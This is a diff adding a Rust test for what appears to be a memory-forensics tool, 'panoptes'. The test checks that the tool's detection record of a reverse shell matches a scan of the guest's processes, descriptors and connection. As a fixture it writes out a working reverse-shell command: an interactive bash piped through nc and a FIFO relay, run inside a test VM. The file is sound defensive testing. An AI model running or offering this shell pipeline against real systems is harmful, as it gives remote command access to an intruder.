@@ -1,0 +1,116 @@
+//! A reverse shell's record has each process of the chain, with its descriptors and its connection, by value (guide
+//! §11.8): what `panoptes scan` says of them, which is held against the truth from inside elsewhere.
+
+use std::collections::BTreeSet;
+
+use panoptes_rig::Guest;
+use serde_json::Value;
+
+use crate::inside;
+use crate::record::only;
+use crate::watcher::{Watcher, panoptes};
+
+const PORT: u64 = 7100;
+const DETECTED: &str = "reverse_shell_detected";
+/// What goes on while the processes of the chain wait.
+const COUNTED: [&str; 3] = ["process_cpu_clock_cycles", "process_cpu_time_ns", "process_state"];
+/// What goes on as bytes go through a pipe: a later scan has the same or later ones.
+const TIMES: [&str; 3] = [
+    "file_descriptor_inode_access_time_iso_8601_ns",
+    "file_descriptor_inode_modify_time_iso_8601_ns",
+    "file_descriptor_inode_change_time_iso_8601_ns",
+];
+/// What a scan's lines have beside the attributes of what they are about: which they are, and whose.
+const OWN: [&str; 4] = ["kind", "process_id", "network_namespace", "system"];
+
+fn scan(guest: &Guest) -> Vec<Value> {
+    let ram = guest.ram_path().display().to_string();
+    let output = panoptes(&["scan", &ram, "--only", "processes,files,connections"]);
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let lines = String::from_utf8(output.stdout).unwrap();
+    lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
+}
+
+/// The one line of this kind and process of which this attribute has this value.
+fn line<'a>(
+    lines: &'a [Value],
+    kind: &str,
+    process: &Value,
+    key: &str,
+    value: &Value,
+) -> &'a Value {
+    let is_it = |line: &&Value| {
+        line["kind"] == kind && line["process_id"] == *process && line[key] == *value
+    };
+    let found: Vec<&Value> = lines.iter().filter(is_it).collect();
+    assert_eq!(found.len(), 1, "{kind} of process {process} with {key} {value}: {found:?}");
+    found[0]
+}
+
+/// Holds all attributes of one against all attributes of the other.
+fn same(said: &Value, line: &Value, except: &[&str]) {
+    let said = said.as_object().unwrap();
+    for (key, value) in said.iter().filter(|(key, _)| !except.contains(&key.as_str())) {
+        if TIMES.contains(&key.as_str()) {
+            assert!(value.as_str() <= line[key].as_str(), "{key} of {said:?}");
+        } else {
+            assert_eq!(*value, line[key], "{key} of {said:?}");
+        }
+    }
+    for key in line.as_object().unwrap().keys() {
+        let is_said = said.contains_key(key) || OWN.contains(&key.as_str());
+        assert!(is_said || except.contains(&key.as_str()), "no {key} in {said:?}");
+    }
+}
+
+/// A shell whose input and output another process relays over a connection.
+pub(crate) fn is_told_by_value(guest: &mut Guest, watcher: &Watcher) {
+    let script = format!(
+        "busybox mkfifo /tmp/relay /tmp/silent; nc -l -p {PORT} <>/tmp/silent >/dev/null 2>&1 & \
+         until netstat -ltn | grep -q :{PORT}; do sleep 0.1; done; \
+         (bash --norc -i </tmp/relay 2>&1 | nc 10.0.2.15 {PORT} >/tmp/relay) >/dev/null 2>&1 &"
+    );
+    inside::run(guest, &script);
+    let is_it = |record: &crate::record::Record| record.is(DETECTED);
+    watcher.wait_for("the reverse shell", is_it);
+    let lines = scan(guest);
+    let records = watcher.records();
+    let record = only(&records, "the reverse shell", is_it);
+    let chain = record.details("reverse_shell")["process_list"].as_array().unwrap();
+    let names: Vec<&Value> =
+        chain.iter().map(|member| &member["process_details"]["process_name"]).collect();
+    assert_eq!(names, ["nc", "bash"], "{record}");
+    // What bytes go through: from the pipe into the connection, and from there into the FIFO.
+    let expected: [&[(u64, &str)]; 2] =
+        [&[(0, "PIPE"), (1, "FIFO"), (3, "SOCKET")], &[(0, "FIFO"), (1, "PIPE"), (2, "PIPE")]];
+    for (member, expected) in chain.iter().zip(expected) {
+        let member = &member["process_details"];
+        let process = &member["process_id"];
+        let lists = ["file_descriptor_list", "network_connection_list"];
+        same(
+            member,
+            line(&lines, "process", process, "process_id", process),
+            &[&COUNTED[..], &lists].concat(),
+        );
+        let descriptors = member["file_descriptor_list"].as_array().unwrap();
+        let mut seen = BTreeSet::new();
+        for descriptor in descriptors {
+            let details = &descriptor["file_descriptor_details"];
+            let (key, kind) = ("file_descriptor_index", "file_descriptor_file_type");
+            same(details, line(&lines, "file_descriptor", process, key, &details[key]), &[]);
+            seen.insert((details[key].as_u64().unwrap(), details[kind].as_str().unwrap()));
+        }
+        assert_eq!(seen, expected.iter().copied().collect(), "{record}");
+    }
+    let connections = |member: &Value| {
+        member["process_details"]["network_connection_list"].as_array().cloned().unwrap_or_default()
+    };
+    assert_eq!((connections(&chain[0]).len(), connections(&chain[1]).len()), (1, 0), "{record}");
+    let connection = &connections(&chain[0])[0]["network_connection_details"];
+    assert_eq!(connection["destination_port"], PORT);
+    let process = &chain[0]["process_details"]["process_id"];
+    let key = "source_port";
+    let times = ["tcp_connection_overall_duration_ns", "tcp_connection_creation_time_iso_8601_ns"];
+    same(connection, line(&lines, "connection", process, key, &connection[key]), &times);
+    inside::run(guest, &format!("kill {process}"));
+}
